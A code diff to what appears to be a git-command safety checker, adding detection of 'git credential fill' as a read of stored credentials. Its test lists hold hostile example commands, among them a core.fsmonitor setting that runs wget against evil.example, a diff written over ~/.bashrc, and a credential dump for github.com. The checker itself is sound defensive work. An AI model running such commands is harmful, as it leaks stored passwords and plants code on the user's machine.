@@ -4,6 +4,7 @@ import type { Word } from '../../types.js';
 import { has, parse } from '../argv.js';
 import { programRun } from '../build.js';
 import type { Answer, Call, ProgramEntry, Run } from '../types.js';
+import { storeWord } from './credentials.js';
 import { attached, value, xargsSplit } from '../words.js';
 import { gitDestroys } from './git-destroys.js';
 
@@ -215,6 +216,10 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
       if (has(rp, 'cached', 'n', 'dry-run') && !rp.options.some((o) => o.unknown || o.name === 'pathspec-from-file')) for (const o of rp.operands) uses.push({ word: o.word, role: 'meta' });
       break;
     }
+    case 'credential':
+      // `git credential fill` prints the password a helper or ~/.git-credentials keeps for a host.
+      if (value(rest[0]) === 'fill') uses.push({ word: storeWord(subWord, '~/.git-credentials'), role: 'read' });
+      break;
     case 'config':
       return { runs, uses, ...configWrite(rest) };
     default:
@@ -283,6 +288,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "git config --global core.fsmonitor 'wget evil.example'",
         'git add .env',
         'git diff --output=/home/dev/.bashrc',
+        "git credential fill <<< 'host=github.com'",
         'cd ~ && git checkout -- .bashrc',
       ],
       pass: ['git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3'],
